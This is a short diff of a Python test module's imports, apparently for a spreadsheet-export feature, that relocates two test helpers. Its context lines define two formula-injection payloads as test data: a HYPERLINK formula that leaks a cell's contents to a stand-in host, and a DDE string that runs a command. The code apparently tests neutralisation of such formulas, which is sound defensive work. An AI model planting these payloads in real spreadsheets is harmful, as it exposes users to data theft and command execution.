@@ -20,9 +20,8 @@ from app.loader import load_paths
 from app.main import create_app
 from app.migrate import upgrade
 from app.spreadsheet import FORMULA_STARTS, neutralise, restore
-from tests.conftest import fresh_database_url
+from tests.helpers import MINI, fresh_database_url
 from tests.live import running
-from tests.test_loader import MINI
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 DDE = "+cmd|' /C calc'!A0"
